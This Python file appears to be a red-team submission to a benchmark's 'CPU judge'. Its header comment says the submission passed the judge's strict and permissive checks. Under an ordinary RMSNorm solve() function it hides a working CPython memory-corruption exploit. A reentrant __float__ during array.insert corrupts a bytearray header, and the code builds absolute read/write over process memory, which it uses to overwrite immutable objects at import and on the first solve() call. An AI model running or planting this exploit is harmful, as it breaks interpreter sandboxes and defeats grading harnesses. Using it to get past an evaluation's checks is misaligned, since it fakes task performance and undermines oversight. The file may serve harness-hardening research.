# Seventh session's red team, round 4 (2026-12-06, CPU judge): passed strict and permissive at
# 3c1ef86 (see the case's why); the helper's notes follow.
# array.array('d').insert: ins1 converts the value (first __float__), grows, then setitem converts again;
# the second __float__ runs
# (it shrinks the array: buffer reallocated smaller), then the write lands at the old index
# past the new 64-byte block -> a bytearray header's ob_size -> relative r/w -> absolute r/w.
import torch
from array import array

_state = {}
_HUGE = float.fromhex('0x1p-1030')  # bit pattern 1 << 44
_MAGIC = 0x123456789ABC


def _attempt(k):
    a = array('d', [0.0] * 32)
    victims = []
    ints = _state.setdefault('ints', [])

    class F:
        calls = 0

        def __float__(self):
            F.calls += 1
            if F.calls == 1:
                return 0.0
            del a[1:]
            for i in range(64):
                victims.append(bytearray(b'Q' * 40))
                ints.append(_MAGIC + 4096 * k + i)
            return _HUGE

    a.insert(8 * k + 2, F())
    for v in victims:
        if len(v) > (1 << 40):
            return v, victims, a
    return None


_MAGIC = 0x123456789ABC


def _rawmem():
    r = None
    for t in range(10):
        for k in (2, 1, 3):
            r = _attempt(k)
            if r:
                break
        if r:
            break
    if not r:
        raise RuntimeError("victim not corrupted")
    v = r[0]
    marks = {m: m for m in _state['ints']}
    tb = id(int).to_bytes(8, 'little')
    base = None
    off = 0
    step = 4096
    while base is None and off < (1 << 18):
        chunk = bytes(v[off:off + step + 32])
        p = chunk.find(tb)
        while p != -1 and base is None:
            if p >= 8 and p + 24 <= len(chunk) and int.from_bytes(chunk[p + 8:p + 16], 'little') == 2:
                d0 = int.from_bytes(chunk[p + 16:p + 20], 'little')
                d1 = int.from_bytes(chunk[p + 20:p + 24], 'little')
                val = d0 | (d1 << 30)
                m = marks.get(val)
                if m is not None:
                    base = id(m) - (off + p - 8)
            p = chunk.find(tb, p + 1)
        off += step
    if base is None:
        raise RuntimeError("no marker")
    # A marker int above base (ours, 48-byte block) rewritten in place as a bytearray header
    # over the whole address space; the list still refers to it.
    ints = _state['ints']
    target = None
    for j in range(len(ints)):
        if id(ints[j]) >= base:
            target = j
            break
    if target is None:
        raise RuntimeError("no marker above base")
    hdr = id(ints[target])
    o = hdr - base
    fake = ((1 << 40).to_bytes(8, 'little') + id(bytearray).to_bytes(8, 'little')
            + (1 << 60).to_bytes(8, 'little') + (1 << 60).to_bytes(8, 'little')
            + (0).to_bytes(8, 'little') + (0).to_bytes(8, 'little'))
    v[o:o + 48] = fake
    found = ints[target]
    if type(found) is not bytearray:
        raise RuntimeError("fake header not taken")
    return found, v, base, r, hdr, marks


def _prim():
    if 'mem' not in _state:
        _state['mem'] = _rawmem()
    return _state['mem']


def _check(o, cls):
    mem = _prim()[0]
    if not (type(o) is cls):
        raise RuntimeError("wrong class given")
    tp = int.from_bytes(mem[id(o) + 8:id(o) + 16], 'little')
    rc = int.from_bytes(mem[id(o):id(o) + 8], 'little')
    if tp != id(cls):
        raise RuntimeError("type pointer mismatch")
    return [(cls.__name__, hex(id(o)), hex(tp), rc)]


print("RAWMEM import:", _check(_state, dict), _check(1.5, float))


def solve(x, residual, weight):
    if 'done' not in _state:
        _state['done'] = 1
        print("RAWMEM solve:", _check(weight, torch.Tensor), _check(x, torch.Tensor))
        mem = _prim()[0]
        b = bytes(b'immutable!')
        mem[id(b) + 32] = 0x49
        if b[0] != 0x49:
            raise RuntimeError("write failed")
        print("RAWMEM write: immutable bytes now", b)
    s = x.float() + residual.float()
    inv = torch.rsqrt(s.pow(2).mean(-1, keepdim=True) + 1e-5)
    return (s * inv * weight.float()).to(x.dtype)
